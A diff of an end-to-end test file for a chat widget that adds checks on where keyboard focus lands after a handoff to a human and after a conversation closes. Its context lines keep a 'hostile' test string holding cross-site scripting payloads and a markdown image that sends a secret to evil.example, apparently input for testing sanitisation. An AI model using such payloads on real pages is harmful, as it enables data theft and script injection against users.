@@ -23,6 +23,13 @@ const hostile =
   'Look: ![x](https://evil.example/leak?secret=1) <img src="https://evil.example/a.png" onerror="alert(1)"> ' +
   "[click](javascript:alert(1)) <script>alert(1)</script> [docs](https://example.com/docs)."
 
+/** The label, or the id, of what has the focus in the widget. */
+const focused = (page: Page) =>
+  page.evaluate(`(() => {
+    const at = document.activeElement?.shadowRoot?.activeElement
+    return at?.getAttribute("aria-label") ?? at?.id ?? null
+  })()`)
+
 describe.skipIf(!hasBrowser)("The widget on a page of another origin", () => {
   const dataDir = temporaryFolder()
   const scope = Effect.runSync(Scope.make())
@@ -284,6 +291,9 @@ describe.skipIf(!hasBrowser)("The widget on a page of another origin", () => {
     await page.locator(".bubble", { hasText: "A member of our team is taking over" }).waitFor()
     expect(await page.locator(".bubble", { hasText: "A member of our team" }).count()).toBe(1)
     expect(await page.getByText("We have asked the team.").count()).toBe(0)
+    // The button is gone, and the focus stays in the chat.
+    expect(await page.getByRole("button", { name: "Talk to a person" }).count()).toBe(0)
+    expect(await focused(page)).toBe("Message")
     await look(page, "widget-handoff")
     await say(page, "Is anybody there?")
     const { body } = await asOwner("GET", "/api/conversations?state=HUMAN_REQUESTED")
@@ -294,8 +304,12 @@ describe.skipIf(!hasBrowser)("The widget on a page of another origin", () => {
     await page.getByText("You are talking with a person.").waitFor()
     expect(await page.locator(".bubble", { hasText: "Ada here" }).count()).toBe(1)
     await look(page, "widget-human")
+    await page.getByLabel("Message", { exact: true }).focus()
     expect((await asOwner("POST", `/api/conversations/${id}/close`)).status).toBe(200)
+    await page.getByRole("button", { name: "Start a new conversation" }).waitFor()
+    expect(await focused(page)).toBe("panel")
     await page.getByRole("button", { name: "Start a new conversation" }).click()
+    expect(await focused(page)).toBe("Message")
     stub.script.push({ text: "Welcome back." })
     await say(page, "Another thing")
     await page.locator(".bubble", { hasText: "Welcome back." }).waitFor()
